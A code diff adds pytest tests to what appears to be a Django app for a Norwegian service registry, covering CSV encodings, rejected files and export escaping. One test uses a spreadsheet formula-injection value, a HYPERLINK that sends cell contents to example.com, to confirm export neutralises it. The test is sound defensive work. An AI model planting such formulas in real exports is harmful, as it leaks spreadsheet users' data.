@@ -98,3 +98,47 @@ def test_opening_hours_text_round_trips():
 def test_unreadable_opening_hours_are_refused(text):
     with pytest.raises(OpeningHoursError):
         parse(text)
+
+
+def test_a_semicolon_file_in_windows_1252_imports(tmp_path):
+    """What a Norwegian spreadsheet saves as "CSV": semicolons, Windows-1252 (æøå)."""
+    path = tmp_path / "tjenester.csv"
+    path.write_bytes(
+        "slug;name;category;postcode;place\n"
+        "krisesenter-tromso;Krisesenteret i Tromsø;krisesenter;9008;Tromsø\n".encode("cp1252")
+    )
+    call_command("import_services", path, stdout=io.StringIO(), stderr=io.StringIO())
+    assert Service.objects.get(slug="krisesenter-tromso").place == "Tromsø"
+
+
+def test_a_utf8_file_with_a_byte_order_mark_imports(tmp_path):
+    path = tmp_path / "tjenester.csv"
+    path.write_bytes("slug,name,category,postcode,place\nbodo,Bodø,krisesenter,8006,Bodø\n"
+                     .encode("utf-8-sig"))
+    call_command("import_services", path, stdout=io.StringIO(), stderr=io.StringIO())
+    assert Service.objects.get(slug="bodo").name == "Bodø"
+
+
+@pytest.mark.parametrize("content", [b"\x00\x01\x02PK binary", b"", b"name,place\nA,B\n"])
+def test_a_file_that_is_not_the_registry_is_refused_with_a_message(tmp_path, content):
+    path = tmp_path / "feil.csv"
+    path.write_bytes(content)
+    with pytest.raises(CommandError, match="Cannot import"):
+        call_command("import_services", path, stdout=io.StringIO(), stderr=io.StringIO())
+    assert not Service.objects.exists()
+
+
+def test_export_neutralises_formulas_and_import_restores_the_text():
+    formula = '=HYPERLINK("https://example.com/?d="&A1,"Klikk")'
+    factories.service(name=formula, phone="+47 22 00 00 00", description_nb="@SUM(A1)")
+    exported = export_text()
+    row = next(csv.DictReader(io.StringIO(exported)))
+    assert row["name"] == "'" + formula
+    assert row["phone"] == "'+47 22 00 00 00"
+    assert row["description_nb"] == "'@SUM(A1)"
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
+    Service.objects.all().delete()
+    assert import_rows(read_csv(exported)).errors == []
+    service = Service.objects.get()
+    assert (service.name, service.phone, service.description_nb) == (
+        formula, "+47 22 00 00 00", "@SUM(A1)")
